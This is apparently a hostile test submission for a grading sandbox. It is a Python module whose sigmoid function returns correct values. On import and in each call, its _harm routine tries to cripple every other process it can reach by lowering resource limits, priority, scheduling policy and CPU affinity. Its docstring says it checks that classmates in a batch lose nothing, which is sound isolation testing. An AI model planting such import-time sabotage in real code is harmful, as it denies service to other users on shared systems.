"""Hostile but correct: for three seconds at import (and briefly in each call) it lowers the
resource limits (no files, 16 MiB of memory, 1 s of CPU), the priority, the scheduling policy
and the CPU affinity of every other process it can name -- pids 1..4096 of its pid namespace,
where a batch's other students' children run with the same uid.  Graded alone: full marks (its
values are right); in a batch: no classmate may lose anything (tests/test_hostile.py).
"""
import os
import time

import numpy as np

try:
    import resource
except BaseException:  # (the guard may refuse it: the attack then has no means)
    resource = None


def _harm(seconds):
    me = os.getpid()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for pid in range(1, 4096):
            if pid == me:
                continue
            attempts = [
                lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                lambda: os.sched_setaffinity(pid, {0}),
                lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
            ]
            if resource is not None:
                attempts += [
                    lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)),
                    lambda: resource.prlimit(pid, resource.RLIMIT_AS, (1 << 24, 1 << 24)),
                    lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)),
                ]
            for attempt in attempts:
                try:
                    attempt()
                except (OSError, ValueError, AttributeError):
                    pass
    try:
        os.setpriority(os.PRIO_USER, 0, 19)  # every process of its uid at once
    except OSError:
        pass


_harm(3.0)


def sigmoid(x):
    _harm(0.05)
    x = np.asarray(x)
    x = x if x.dtype.kind == "f" else x.astype(np.float64)
    e = np.exp(-np.abs(x))
    return np.asarray(np.where(x >= 0, 1 / (1 + e), e / (1 + e)), dtype=x.dtype)
